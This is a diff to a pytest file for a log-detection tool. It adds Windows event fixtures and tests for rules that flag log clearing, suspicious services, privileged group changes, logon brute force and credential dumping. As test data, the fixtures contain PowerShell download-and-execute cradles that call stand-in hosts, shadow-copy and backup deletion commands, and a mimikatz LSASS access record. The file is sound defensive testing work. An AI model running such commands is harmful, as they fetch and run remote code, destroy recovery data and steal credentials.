@@ -10,6 +10,7 @@ import pytest
 from mamori.analysers.logs.analyser import load_pack
 from mamori.analysers.logs.dedupe import Alert
 from mamori.analysers.logs.events import LogEvent, LogSource
+from mamori.analysers.logs.ingest.evtx import windows_event
 from mamori.analysers.logs.ingest.interface import SourceInfo
 from mamori.analysers.logs.ingest.webaccess import WebAccessFormat
 from mamori.analysers.logs.sigma_load import BUILTIN_RULES, load_rules
@@ -41,6 +42,24 @@ def web(
     event = parse(raw, sec + 1)
     assert event is not None, raw
     return dataclasses.replace(event, ts=T0 + dt.timedelta(seconds=sec))
+
+
+def win(channel: str, event_id: int, sec: int = 0, **fields: str) -> LogEvent:
+    """A Windows event as the EVTX reader gives it (flat Sigma fields, channel logsource)."""
+    fields = {"Channel": channel, "EventID": str(event_id), "Computer": "WKS-07", **fields}
+    raw = " ".join(f"{k}={v}" for k, v in fields.items())
+    when = T0 + dt.timedelta(seconds=sec)
+    return windows_event("Security.evtx", sec + 1, when, fields, raw)
+
+
+def proc(command: str, image: str = "C:\\Windows\\System32\\cmd.exe") -> LogEvent:
+    return win("Microsoft-Windows-Sysmon/Operational", 1, Image=image, CommandLine=command)
+
+
+def logon(sec: int, ok: bool, user: str = "administrator", ip: str = IP) -> LogEvent:
+    if ok:
+        return win("Security", 4624, sec, TargetUserName=user, IpAddress=ip, LogonType="10")
+    return win("Security", 4625, sec, TargetUserName=user, IpAddress=ip, LogonType="3")
 
 
 def ssh(sec: int, ok: bool, user: str = "root", ip: str = IP) -> LogEvent:
@@ -75,8 +94,8 @@ NEW_SOURCE = "SSH logins for one user from several source addresses"
 def test_every_rule_in_the_pack_is_exercised_here() -> None:
     loaded = load_rules([BUILTIN_RULES])
     titles = {r.title for r in (*loaded.rules, *loaded.correlations)}
-    tested = {BRUTE, SPRAY, AFTER, NEW_SOURCE, SCANNING, WEB_BRUTE, *POSITIVE,
-              *{t for t, _ in SILENT_BASES}}  # fmt: skip
+    tested = {BRUTE, SPRAY, AFTER, NEW_SOURCE, SCANNING, WEB_BRUTE, WIN_BRUTE, WIN_SPRAY,
+              WIN_AFTER, WIN_NEW_ADMIN, *POSITIVE, *{t for t, _ in SILENT_BASES}}  # fmt: skip
     tested |= {"Local user account created", "User added to a privileged group",
                "New local user made privileged"}  # fmt: skip
     assert titles == tested
@@ -159,6 +178,64 @@ POSITIVE: dict[str, list[LogEvent]] = {
         web("/proxy?u=gopher://127.0.0.1:6379/_INFO"),
         web("/fetch?url=http://2852039166/"),
     ],
+    "Windows event log cleared": [
+        win("Security", 1102, SubjectUserName="intruder"),
+        win("System", 104, Channel_cleared="System"),
+    ],
+    "Windows service installed that runs a shell or script host": [
+        win("System", 7045, ServiceName="spoolfool", ImagePath="cmd.exe"),
+        win("System", 7045, ServiceName="x", ImagePath="%COMSPEC% /c echo a > \\\\.\\pipe\\p"),
+        win("System", 7045, ServiceName="PSEXESVC", ImagePath="%SystemRoot%\\PSEXESVC.exe"),
+        win("System", 7045, ServiceName="upd", ImagePath="C:\\Users\\bob\\AppData\\x.exe"),
+    ],
+    "Account added to a privileged Windows group": [
+        win(
+            "Security",
+            4732,
+            TargetUserName="Administrators",
+            TargetSid="S-1-5-32-544",
+            MemberSid="S-1-5-21-1-2-3-1109",
+        ),
+        win(
+            "Security",
+            4728,
+            TargetUserName="Domain Admins",
+            TargetSid="S-1-5-21-1-2-3-512",
+            MemberSid="S-1-5-21-1-2-3-1109",
+        ),
+        win("Security", 4732, TargetUserName="Administratoren", TargetSid="S-1-5-32-544"),
+    ],
+    "Windows account created": [win("Security", 4720, TargetUserName="svc_x")],
+    "PowerShell started with an encoded command or a download cradle": [
+        proc("powershell.exe -nop -w hidden -enc SQBFAFgA", "C:\\x\\powershell.exe"),
+        proc(
+            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        ),
+        proc("pwsh -Command iwr http://203.0.113.9/a.ps1 | iex", "C:\\pwsh\\pwsh.exe"),
+    ],
+    "Shadow copies or backups deleted": [
+        proc("vssadmin.exe Delete Shadows /All /Quiet"),
+        proc("wmic shadowcopy delete"),
+        proc("wbadmin delete catalog -quiet"),
+        proc("bcdedit /set {default} recoveryenabled No"),
+    ],
+    "LSASS memory read by an unexpected process": [
+        win(
+            "Microsoft-Windows-Sysmon/Operational",
+            10,
+            TargetImage="C:\\Windows\\system32\\lsass.exe",
+            SourceImage="C:\\Users\\x\\mimikatz.exe",
+            GrantedAccess="0x1010",
+        ),
+        win(
+            "Microsoft-Windows-Sysmon/Operational",
+            10,
+            TargetImage="C:\\Windows\\system32\\lsass.exe",
+            SourceImage="C:\\Windows\\System32\\rundll32.exe",
+            GrantedAccess="0x1FFFFF",
+        ),
+    ],
     "Sensitive file probe in a web request": [
         web("/.env", status="404"),
         web("/.git/config"),
@@ -221,6 +298,58 @@ NEGATIVE: dict[str, list[LogEvent]] = {
         web("/fetch?url=https://api.partner.example/rates"),
         web("/files/169.254.pdf"),
     ],
+    "Windows event log cleared": [
+        win("Security", 4624, TargetUserName="alice", LogonType="2"),
+        win("Application", 104),
+        win("System", 7036, param1="Windows Event Log"),
+    ],
+    "Windows service installed that runs a shell or script host": [
+        win(
+            "System",
+            7045,
+            ServiceName="MozillaMaintenance",
+            ImagePath='"C:\\Program Files\\Mozilla\\maintenanceservice.exe"',
+        ),
+        win("System", 7036, ServiceName="x", ImagePath="cmd.exe"),
+    ],
+    "Account added to a privileged Windows group": [
+        win("Security", 4732, TargetUserName="Users", TargetSid="S-1-5-32-545"),
+        win("Security", 4733, TargetUserName="Administrators", TargetSid="S-1-5-32-544"),
+    ],
+    "Windows account created": [win("Security", 4722, TargetUserName="svc_x")],
+    "PowerShell started with an encoded command or a download cradle": [
+        proc("powershell.exe -File C:\\scripts\\backup.ps1", "C:\\x\\powershell.exe"),
+        proc("cmd.exe /c echo -enc data"),
+        proc("powershell.exe Get-ChildItem -Recurse", "C:\\x\\powershell.exe"),
+    ],
+    "Shadow copies or backups deleted": [
+        proc("vssadmin list shadows"),
+        proc("wbadmin start backup -backupTarget:E:"),
+        proc("bcdedit /enum"),
+    ],
+    "LSASS memory read by an unexpected process": [
+        win(
+            "Microsoft-Windows-Sysmon/Operational",
+            10,
+            TargetImage="C:\\Windows\\system32\\lsass.exe",
+            SourceImage="C:\\Windows\\system32\\svchost.exe",
+            GrantedAccess="0x1410",
+        ),
+        win(
+            "Microsoft-Windows-Sysmon/Operational",
+            10,
+            TargetImage="C:\\Windows\\system32\\lsass.exe",
+            SourceImage="C:\\x\\agent.exe",
+            GrantedAccess="0x1000",
+        ),
+        win(
+            "Microsoft-Windows-Sysmon/Operational",
+            10,
+            TargetImage="C:\\Windows\\explorer.exe",
+            SourceImage="C:\\x\\mimikatz.exe",
+            GrantedAccess="0x1010",
+        ),
+    ],
     "Sensitive file probe in a web request": [
         web("/environment/overview"),
         web("/.well-known/security.txt"),
@@ -243,7 +372,59 @@ SILENT_BASES = [
     ("SSH authentication success", ssh(0, True)),
     ("Web request answered 404", web("/missing", status="404")),
     ("Failed web login", web("/api/login", method="POST", status="401")),
+    ("Windows logon failure", logon(0, False)),
+    ("Windows logon success", logon(0, True)),
 ]
+
+WIN_BRUTE = "Windows logon brute force from one address"
+WIN_SPRAY = "Windows password spraying from one address"
+WIN_AFTER = "Windows logon succeeded after a brute force from the same address"
+WIN_NEW_ADMIN = "New Windows account made privileged"
+
+
+def test_windows_logon_brute_force_spraying_and_success_after() -> None:
+    assert WIN_BRUTE in fired([logon(s, False) for s in range(10)])
+    assert WIN_BRUTE not in fired([logon(s, False) for s in range(9)])
+    assert WIN_SPRAY in fired([logon(s, False, user=f"teller{s}") for s in range(5)])
+    assert WIN_SPRAY not in fired([logon(s, False) for s in range(8)])
+    attack = [logon(s, False) for s in range(12)] + [logon(90, True)]
+    assert WIN_AFTER in fired(attack)
+    assert WIN_AFTER not in fired([logon(0, False), logon(90, True)])
+    assert WIN_AFTER not in fired([*attack[:-1], logon(90, True, ip="198.51.100.4")])
+
+
+def test_new_windows_account_made_privileged() -> None:
+    sid = "S-1-5-21-1-2-3-1109"
+    made = win("Security", 4720, 0, TargetUserName="helpdesk2", TargetSid=sid)
+    promoted = win("Security", 4732, 60, TargetUserName="Administrators",
+                   TargetSid="S-1-5-32-544", MemberSid=sid)  # fmt: skip
+    other = win("Security", 4732, 60, TargetUserName="Administrators",
+                TargetSid="S-1-5-32-544", MemberSid="S-1-5-21-1-2-3-1200")  # fmt: skip
+    assert WIN_NEW_ADMIN in fired([made, promoted])
+    assert WIN_NEW_ADMIN not in fired([made, other])
+    later = win("Security", 4720, 120, TargetUserName="helpdesk2", TargetSid=sid)
+    assert WIN_NEW_ADMIN not in fired([promoted, later])  # promoted before it was created
+
+
+def test_windows_rules_fire_on_real_attack_samples() -> None:
+    """On the public EVTX attack samples the pack finds what each sample is named for."""
+    from shared_data import SHARED_DATA  # noqa: PLC0415
+
+    corpus = SHARED_DATA / "evtx-attack-samples"
+    service = "Windows service installed that runs a shell or script host"
+    expected = {
+        "DE_1102_security_log_cleared.evtx": "Windows event log cleared",
+        "DE_104_system_log_cleared.evtx": "Windows event log cleared",
+        "LM_Remote_Service02_7045.evtx": service,
+        "Network_Service_Guest_added_to_admins_4732.evtx": "Account added to a privileged "
+        "Windows group",
+        "babyshark_mimikatz_powershell.evtx": "LSASS memory read by an unexpected process",
+    }
+    files = [(str(next(corpus.rglob(name))), name) for name in expected]
+    alerts, _ = load_pack().detect_files(files, workers=1)
+    found = {(e.source, a.title) for a in alerts for e in a.events}
+    assert set(expected.items()) <= found
+
 
 SCANNING = "Web scanning burst from one address"
 WEB_BRUTE = "Web login brute force from one address"
